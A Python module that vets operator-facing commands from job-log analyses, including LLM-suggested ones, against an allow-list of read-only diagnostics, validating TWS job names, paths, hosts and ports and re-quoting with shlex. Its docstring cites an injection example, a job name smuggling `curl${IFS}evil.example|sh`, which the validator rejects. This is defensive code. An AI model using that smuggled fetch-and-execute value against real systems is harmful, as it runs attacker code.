"""The one gate for commands shown to an operator: validated identifiers, shell-quoted, allow-listed.

resync never runs a command, but an operator may paste one, so every command in an analysis's steps
— made by the rules or suggested by an LLM — passes `vet_command` (through `safe_step`): the
command is split like a shell would (`shlex`), its verb must be one of the read-only diagnostics
or TWS actions in `_SHAPES`, and each argument must be a valid identifier of its kind (a TWS job
reference by TWS naming rules, an absolute path, a host name, a port ...). The command is then
rebuilt from those arguments with `shlex.quote`, so what is shown is exactly what was validated.
Anything else loses its command. Rules build commands with `command(...)`, which goes through the
same validation.

Joblog text reaches these commands (a job name from the header, a path or host from the error
line); a header naming job `FACT";curl${IFS}evil.example|sh;echo"` is not a TWS job name and gives
no command at all.
"""

from __future__ import annotations

import ipaddress
import re
import shlex
from collections.abc import Callable

# TWS naming rules (composer): workstation and job stream names up to 16 characters, job names up
# to 40, letters, digits, `-` and `_`, starting with a letter; folders are `/`-separated names.
_TWS_NAME = r"[A-Za-z][A-Za-z0-9_-]"
WORKSTATION = re.compile(rf"{_TWS_NAME}{{0,15}}")
STREAM = re.compile(rf"(?:/(?:{_TWS_NAME}{{0,15}}/)*)?{_TWS_NAME}{{0,15}}")
JOB = re.compile(rf"{_TWS_NAME}{{0,39}}")
JOB_REF = re.compile(rf"(?P<ws>{WORKSTATION.pattern})#(?P<stream>{STREAM.pattern})\.(?P<job>{JOB.pattern})")
# Absolute paths of ordinary file names (no shell metacharacters, no whitespace, no `..` segment).
_PATH = re.compile(r"/(?:[\w.@%+~,=-]+/?)*")
_HOST_LABEL = r"[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?"
_HOSTNAME = re.compile(rf"{_HOST_LABEL}(?:\.{_HOST_LABEL})*")
# Words that follow "host", "server" or "to" in messages without being host names.
_NOT_HOSTS = frozenset(
    [
        "key",
        "name",
        "names",
        "is",
        "was",
        "not",
        "the",
        "a",
        "an",
        "and",
        "or",
        "to",
        "of",
        "for",
        "from",
        "on",
        "in",
        "at",
        "by",
        "with",
        "without",
        "unknown",
        "unreachable",
        "verification",
        "lookup",
        "localhost0",
        "none",
        "null",
        "true",
        "false",
    ]
)
_COMMAND_WORD = re.compile(r"[A-Za-z0-9_][A-Za-z0-9_.+-]{0,63}")
_DB_NAME = re.compile(r"[A-Za-z_][A-Za-z0-9_$#]{0,127}")


def is_job_ref(value: str) -> bool:
    """`WS#[/FOLDER/]STREAM.JOB` by TWS naming rules."""
    return bool(JOB_REF.fullmatch(value or ""))


def is_path(value: str) -> bool:
    """An absolute path of plain file names (no shell metacharacters, spaces or `..`)."""
    return bool(value) and len(value) <= 400 and bool(_PATH.fullmatch(value)) and "/../" not in value + "/"


def is_ip(value: str) -> bool:
    """An IPv4 or IPv6 address."""
    try:
        ipaddress.ip_address(value)
    except ValueError:
        return False
    return True


def is_hostname(value: str) -> bool:
    """A host name that is plausibly a host: dotted (FQDN), or a single label carrying a digit or a
    hyphen (`db01`, `sftp-prd`) that is not an ordinary word; or an IP address."""
    if not value or len(value) > 253:
        return False
    if is_ip(value):
        return True
    if not _HOSTNAME.fullmatch(value) or value.lower() in _NOT_HOSTS:
        return False
    if "." in value:
        labels = value.split(".")
        # A dotted name ends in a label with a letter (not `1.2.3`) and is not a file name.
        return any(c.isalpha() for c in labels[-1])
    return any(c.isdigit() or c == "-" for c in value) and any(c.isalpha() for c in value)


def is_port(value: str) -> bool:
    """A TCP port number."""
    return value.isdigit() and 0 < int(value) < 65536


def is_command_word(value: str) -> bool:
    """A program name (`sqlcmd`, `python3.11`)."""
    return bool(_COMMAND_WORD.fullmatch(value or ""))


def is_db_name(value: str) -> bool:
    """A database name or alias."""
    return bool(_DB_NAME.fullmatch(value or ""))


# Allowed command shapes: fixed words (str) and validated arguments (callables), in order.
Arg = Callable[[str], bool]
_SHAPES: tuple[tuple[object, ...], ...] = (
    ("df", "-h", is_path),
    ("df", "-h"),
    ("du", "-sh", is_path),
    ("ls", "-l", is_path),
    ("ls", "-ld", is_path),
    ("ls", "-lt", is_path),
    ("lsnrctl", "status"),
    ("tnsping", is_db_name),
    ("nc", "-vz", is_hostname, is_port),
    ("pg_isready", "-h", is_hostname, "-p", is_port),
    ("pg_isready", "-h", is_hostname),
    ("nslookup", is_hostname),
    ("ping", "-c", "3", is_hostname),
    ("free", "-m"),
    ("dmesg", "-T"),
    ("command", "-v", is_command_word),
    ("db2pd", "-db", is_db_name, "-locks"),
    ("tail", "-n", "100", is_path),
)
_CONMAN = re.compile(r"(?P<verb>rr|rerun|sj|showjobs) (?P<ref>\S+?)(?P<opt>;stdlist|;std)?")


def _render(words: list[str]) -> str:
    return " ".join(shlex.quote(w) for w in words)


def _vet_conman(args: list[str]) -> str | None:
    if len(args) != 1:
        return None
    m = _CONMAN.fullmatch(args[0])
    if not m or not is_job_ref(m.group("ref")):
        return None
    return _render(["conman", args[0]])


def vet_command(command: str | None) -> str | None:
    """`command` rebuilt from validated, quoted arguments when it has an allowed shape, else None."""
    if not command or len(command) > 300 or "\n" in command or "\r" in command:
        return None
    try:
        words = shlex.split(command)
    except ValueError:
        return None
    if not words:
        return None
    if words[0] == "conman":
        return _vet_conman(words[1:])
    for shape in _SHAPES:
        if len(shape) != len(words):
            continue
        if all((w == part) if isinstance(part, str) else part(w) for w, part in zip(words, shape)):
            return _render(words)
    return None


def command(*words: str) -> str | None:
    """Build a command from words (fixed words and joblog values alike); None when any word fails
    its validation. The rules' only way to make a command."""
    return vet_command(_render([str(w) for w in words]))


def conman(verb: str, ref: str | None, option: str = "") -> str | None:
    """`conman 'rr WS#STREAM.JOB'` for a job reference that follows TWS naming rules, else None."""
    if not ref or not is_job_ref(ref):
        return None
    return vet_command(_render(["conman", f"{verb} {ref}{option}"]))


def safe_step(step: dict, source: str | None = None) -> dict:
    """A step whose command passed `vet_command` (canonical form), or lost it (`suggestion`)."""
    out = dict(step)
    if source is not None:
        out["source"] = source
    raw = out.get("command")
    vetted = vet_command(raw) if raw else None
    out["command"] = vetted
    if raw and vetted is None:
        out["suggestion"] = True
    out.setdefault("suggestion", False)
    return out
